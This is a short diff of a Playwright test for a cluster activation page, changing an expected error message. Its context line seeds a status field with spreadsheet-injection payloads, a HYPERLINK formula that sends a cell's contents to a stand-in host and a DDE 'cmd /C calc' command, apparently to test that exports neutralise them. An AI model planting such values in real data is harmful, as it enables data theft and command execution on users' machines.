@@ -224,7 +224,7 @@ test.describe('A cluster that is set up', () => {
       statusErrorText: `=HYPERLINK("http://example.org/?"&A1)\r\n+cmd|' /C calc'!A0;=1+1 Schlüssel ${key}`
     });
     await activation.refresh();
-    await expect(activation.row('node02')).toContainText('Couldn’t check the status');
+    await expect(activation.row('node02')).toContainText('Can’t check');
     const [download] = await Promise.all([
       activation.page.waitForEvent('download'),
       activation.action('Export').click()
